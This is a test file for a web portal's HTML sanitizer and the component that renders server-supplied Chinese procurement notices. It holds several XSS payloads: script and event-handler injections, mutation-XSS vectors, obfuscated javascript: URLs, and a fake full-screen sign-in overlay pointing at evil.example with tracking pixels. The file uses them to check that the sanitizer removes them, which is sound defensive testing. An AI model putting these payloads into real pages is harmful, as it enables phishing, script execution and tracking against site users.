import { screen } from '@testing-library/react'
import { describe, expect, it } from 'vitest'

import { renderUi } from '../test-utils'
import { loadSanitizer, type ServerHtmlPolicy } from './sanitize'
import { ServerHtml } from './ServerHtml'
import { ServerHtmlSourcesContext } from '../server-html-sources'

const API = 'https://api.portal.example'

async function clean(html: string, policy: ServerHtmlPolicy = { imageOrigins: [API] }): Promise<HTMLElement> {
  const sanitize = await loadSanitizer()
  const box = document.createElement('div')
  box.innerHTML = sanitize(html, policy)
  return box
}

/** A notice that lays a fake sign-in page over the whole portal, with a tracking picture. */
const FAKE_SIGN_IN =
  '<div style="position:fixed;inset:0;top:0;left:0;z-index:2147483647;width:100vw;height:100vh;min-height:100vh;transform:none;background:#ffffff;color:#c00000">' +
  '<p style="font-size:24px;text-align:center">请重新登录</p>' +
  '<a href="https://evil.example/login">登录</a>' +
  '<img src="https://tracker.example/p.gif?u=1" alt="" width="1" height="1"></div>'

const hostile: [string, string][] = [
  ['script element', '<p>公告</p><script>window.__pwned = 1</script>'],
  ['event handler', '<img src="x" onerror="window.__pwned = 1"><p onclick="window.__pwned = 1">点我</p>'],
  [
    'svg script',
    '<svg><script>window.__pwned = 1</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  ['svg onload', '<svg onload="window.__pwned = 1"></svg>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>'],
  ['mutation XSS through noscript', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">'],
  ['mutation XSS through math/style', '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>'],
  ['object/embed', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  [
    'form action',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">提交</button></form>',
  ],
]

describe('sanitizer (decision 016)', () => {
  it.each(hostile)('removes %s', async (_, html) => {
    const box = await clean(html)
    expect(box.querySelector('script, iframe, object, embed, meta, form, input, button, style')).toBeNull()
    for (const el of box.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        expect(attr.name).not.toMatch(/^on/i)
        expect(attr.value).not.toMatch(/javascript:/i)
      }
    }
    expect((window as { __pwned?: number }).__pwned).toBeUndefined()
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' \tjavascript:alert(1)',
    'java&#x09;script:alert(1)',
    '&#106;avascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ])('drops the link address %s', async (href) => {
    const box = await clean(`<a href="${href}">链接</a>`)
    const a = box.querySelector('a')!
    expect(a.textContent).toBe('链接')
    expect(a.hasAttribute('href')).toBe(false)
  })

  it('drops <style>, which would restyle the whole portal', async () => {
    const box = await clean('<style>body { display: none }</style><p style="color: red">红字</p>')
    expect(box.querySelector('style')).toBeNull()
    expect(box.querySelector('p')!.getAttribute('style')).toBe('color: red')
  })

  it('opens links in a new tab without handing over window.opener', async () => {
    const box = await clean(
      '<a href="https://example.com/a.pdf" target="_self" rel="opener">附件</a><div target="_top">x</div>',
    )
    const a = box.querySelector('a')!
    expect(a.getAttribute('href')).toBe('https://example.com/a.pdf')
    expect(a.getAttribute('target')).toBe('_blank')
    expect(a.getAttribute('rel')).toBe('noopener noreferrer')
    expect(box.querySelector('div')!.hasAttribute('target')).toBe(false)
  })

  it('keeps ordinary notice markup', async () => {
    const box = await clean(
      '<h2>采购公告</h2><table style="width: 100%; border-collapse: collapse" width="600"><tbody><tr><td style="border: 1px solid #000">项目编号</td><td>ZB-001</td></tr></tbody></table><img src="/api/blade-resource/oss/a.png" alt="图" width="320">',
    )
    expect(box.querySelector('h2')!.textContent).toBe('采购公告')
    expect(box.querySelectorAll('td')).toHaveLength(2)
    expect(box.querySelector('table')!.getAttribute('style')).toBe('width: 100%; border-collapse: collapse')
    expect(box.querySelector('table')!.getAttribute('width')).toBe('600')
    expect(box.querySelector('td')!.getAttribute('style')).toBe('border: 1px solid #000')
    expect(box.querySelector('img')!.getAttribute('src')).toBe('/api/blade-resource/oss/a.png')
  })
})

describe('server HTML keeps its formatting, never the screen (decision 056)', () => {
  it('takes the positioning off a fake sign-in overlay, keeping its words and colours', async () => {
    const box = await clean(FAKE_SIGN_IN)
    const cover = box.querySelector('div')!
    expect(cover.getAttribute('style')).toBe('background: #ffffff; color: #c00000')
    expect(box.querySelector('p')!.getAttribute('style')).toBe('font-size: 24px; text-align: center')
    expect(box.textContent).toContain('请重新登录')
    expect(box.innerHTML).not.toMatch(/position|z-index|inset|top:|left:|vw|vh|transform|min-height/)
    expect(box.querySelector('img')).toBeNull()
  })

  it('keeps the editor’s font sizes and colours on a span', async () => {
    const box = await clean('<p><span style="font-size: 16px; color: rgb(255, 0, 0); font-weight: bold">截止时间</span></p>')
    expect(box.querySelector('span')!.getAttribute('style')).toBe('font-size: 16px; color: rgb(255, 0, 0); font-weight: bold')
  })

  it('drops a style with nothing left, and every picture in styles', async () => {
    const box = await clean('<p style="position: absolute; background-image: url(https://tracker.example/p.gif)">正文</p><table background="https://tracker.example/t.gif"><tr><td>x</td></tr></table>')
    expect(box.querySelector('p')!.hasAttribute('style')).toBe(false)
    expect(box.querySelector('table')!.hasAttribute('background')).toBe(false)
  })

  it('shows a picture from the portal or the API; one from anywhere else becomes its alt text', async () => {
    const box = await clean(
      '<p><img src="/api/blade-resource/oss/logo.png" alt="本站"></p>' +
        `<p><img src="${API}/blade-resource/oss/a.png" alt="接口"></p>` +
        '<p>前<img src="https://tracker.example/p.gif" alt="外站图片">后</p>' +
        '<p><img src="https://tracker.example/q.gif"></p>' +
        '<p><img src="/api/blade-resource/oss/b.png" srcset="https://tracker.example/big.png 2x" alt="高清"></p>',
    )
    const sources = [...box.querySelectorAll('img')].map((img) => img.getAttribute('src'))
    expect(sources).toEqual(['/api/blade-resource/oss/logo.png', `${API}/blade-resource/oss/a.png`, '/api/blade-resource/oss/b.png'])
    expect(box.querySelectorAll('p')[2]!.textContent).toBe('前外站图片后')
    expect(box.querySelectorAll('p')[3]!.innerHTML).toBe('')
    expect(box.querySelector('[srcset]')).toBeNull()
    expect(box.innerHTML).not.toContain('tracker.example')
  })

  it('takes picture origins from the policy alone', async () => {
    const html = `<img src="${API}/a.png" alt="接口"><img src="https://cdn.example.com/b.png" alt="图床">`
    expect((await clean(html, { imageOrigins: [] })).querySelector('img')).toBeNull()
    const listed = await clean(html, { imageOrigins: ['https://cdn.example.com'] })
    expect([...listed.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['https://cdn.example.com/b.png'])
    expect(listed.textContent).toBe('接口')
  })

  it('keeps a picture pasted into the editor, whose bytes load from nowhere, but no SVG document', async () => {
    const pasted = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
    const box = await clean(`<img src="${pasted}" alt="截图"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="矢量图">`)
    expect([...box.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([pasted])
    expect(box.textContent).toBe('矢量图')
  })

  it('drops media from elsewhere, sizes that cover the screen, SVG, dialogs and popovers', async () => {
    const box = await clean(
      '<video src="https://tracker.example/v.mp4" poster="https://tracker.example/p.jpg"></video>' +
        '<table width="5000" height="100%"><tr><td width="50%">x</td></tr></table>' +
        '<svg><image href="https://tracker.example/s.png"></image></svg>' +
        '<dialog open>对话框</dialog><div popover="auto">弹出</div><a href="https://example.com" ping="https://tracker.example/ping">链接</a>',
    )
    expect(box.querySelector('video')!.hasAttribute('src')).toBe(false)
    expect(box.querySelector('video')!.hasAttribute('poster')).toBe(false)
    expect(box.querySelector('table')!.hasAttribute('width')).toBe(false)
    expect(box.querySelector('table')!.getAttribute('height')).toBe('100%')
    expect(box.querySelector('td')!.getAttribute('width')).toBe('50%')
    expect(box.querySelector('svg, image, dialog, [popover], [ping]')).toBeNull()
    expect(box.textContent).toContain('对话框')
    expect(box.innerHTML).not.toContain('tracker.example')
  })
})

describe('ServerHtml', () => {
  it('shows the cleaned HTML as a named article, busy until the sanitizer is there', async () => {
    renderUi(
      <ServerHtml
        label="采购公告"
        html={
          '<p>开标时间：2024-05-20</p><img src=x onerror="window.__pwned = 1"><a href="javascript:alert(1)">详情</a>'
        }
      />,
    )
    expect(screen.getByRole('article', { name: '采购公告' })).toHaveAttribute('aria-busy', 'true')
    expect(await screen.findByText('开标时间：2024-05-20')).toBeInTheDocument()
    const article = screen.getByRole('article', { name: '采购公告' })
    expect(article).not.toHaveAttribute('aria-busy')
    expect(article.innerHTML).not.toMatch(/onerror|javascript:/i)
    expect(screen.getByText('详情')).not.toHaveAttribute('href')
  })

  it('holds the HTML in a box of its own, with the pictures config.json allows', async () => {
    renderUi(
      <ServerHtmlSourcesContext.Provider value={{ apiBase: `${API}/api`, imageOrigins: ['https://cdn.example.com'] }}>
        <ServerHtml label="公告" html={`${FAKE_SIGN_IN}<img src="${API}/oss/a.png" alt="附图"><img src="https://cdn.example.com/b.png" alt="图床"><img src="/oss/c.png" alt="本站">`} />
      </ServerHtmlSourcesContext.Provider>,
    )
    expect(await screen.findByText('请重新登录')).toBeInTheDocument()
    const article = screen.getByRole('article', { name: '公告' })
    // Whatever is positioned inside is positioned, clipped and stacked within the article.
    expect(article.style.contain).toBe('content')
    expect(article.style.isolation).toBe('isolate')
    expect(article.style.overflow).toBe('auto')
    // The API's origin, config.json's imageOrigins and the portal's own; the tracker's picture is gone.
    expect([...article.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([`${API}/oss/a.png`, 'https://cdn.example.com/b.png', '/oss/c.png'])
  })

  it('follows a change of HTML', async () => {
    const { rerender } = renderUi(<ServerHtml html="<p>第一版</p>" />)
    expect(await screen.findByText('第一版')).toBeInTheDocument()
    rerender(<ServerHtml html="<p>第二版</p>" />)
    expect(await screen.findByText('第二版')).toBeInTheDocument()
    expect(screen.queryByText('第一版')).not.toBeInTheDocument()
    expect(screen.getByRole('article', { name: '正文' })).toBeInTheDocument()
  })
})
